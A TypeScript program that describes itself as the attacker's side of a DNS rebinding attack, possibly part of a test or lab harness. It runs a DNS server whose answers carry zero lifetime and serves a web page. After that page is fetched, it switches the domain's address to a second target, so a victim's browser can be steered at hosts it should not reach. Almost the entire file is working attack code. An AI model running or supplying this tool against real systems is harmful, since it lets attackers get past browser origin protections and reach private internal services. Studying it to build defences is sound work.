/**
 * The attacker's side of DNS rebinding: a page, and the name server of its name. The name means the page's own address
 * until the page was fetched, and another one from then on, each for no time at all. Usage:
 * `rebinding-attacker-program.ts <name server's address> <page's address> <port> <then> <page>`.
 */
import { createSocket } from "node:dgram";
import { createServer } from "node:http";

const HEADER = 12;
const TYPE_A = 1;

const [own = "", first = "", port = "", then = "", page = ""] = process.argv.slice(2);
let address = first;

/** The answer to a question of one name (RFC 1035, section 4). */
function answer(query: Buffer): Buffer {
  let end = HEADER;
  while (query[end] !== 0) end += (query[end] ?? 0) + 1;
  const question = query.subarray(HEADER, end + 5);
  const isAddress = query.readUInt16BE(end + 1) === TYPE_A;
  const head = [query[0] ?? 0, query[1] ?? 0, 0x84, 0x00, 0, 1, 0, isAddress ? 1 : 0, 0, 0, 0, 0];
  // A pointer to the name, type A, class IN, a lifetime of zero, four bytes.
  const record = [0xc0, HEADER, 0, TYPE_A, 0, 1, 0, 0, 0, 0, 0, 4, ...address.split(".").map(Number)];
  return Buffer.concat([Buffer.from(head), question, Buffer.from(isAddress ? record : [])]);
}

const names = createSocket("udp4");
names.on("message", (query, from) => names.send(answer(query), from.port, from.address));
const pages = createServer((_request, response) => {
  address = then;
  response.end(page);
});
names.bind(53, own, () => pages.listen(Number(port), first, () => process.stdout.write("ready\n")));
